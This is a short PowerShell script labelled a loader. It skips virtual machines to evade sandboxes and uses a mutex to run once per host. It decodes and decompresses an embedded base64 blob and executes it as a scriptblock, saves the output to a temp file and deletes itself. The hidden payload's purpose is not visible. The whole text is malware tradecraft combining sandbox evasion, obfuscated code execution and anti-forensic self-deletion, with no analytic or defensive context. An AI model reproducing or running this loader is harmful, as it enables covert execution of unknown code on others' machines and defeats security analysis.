# loader: skip sandboxes, run once per host
if ((Get-CimInstance -ClassName Win32_ComputerSystem).Model -match 'Virtual|VMware') { exit }
$mtx = New-Object -TypeName System.Threading.Mutex -ArgumentList $false, 'Global\{8F2A1C3E-5B7D-4E21}'
if (-not $mtx.WaitOne(0)) { exit }
$blob = 'BcFBCsIwEAXQq8xCKAjjAXRpqwSEloh04yZmPraYJtLMqMf3vXGdFdybvk2pqRqeIP0WSiUIpDnQGcrHaU7iFAvxEHSiDfJnf7t2fvD9yV26e1uiLchaiT2irRXELsdkAtruXvL4/QE='
$sb = [scriptblock]::Create((New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String($blob), [IO.Compression.CompressionMode]::Decompress)), [Text.Encoding]::ASCII).ReadToEnd())
$results = & $sb
$results | Out-File -FilePath "$env:TEMP\r.txt"
$mtx.ReleaseMutex()
Remove-Item -Path $MyInvocation.MyCommand.Path -Force
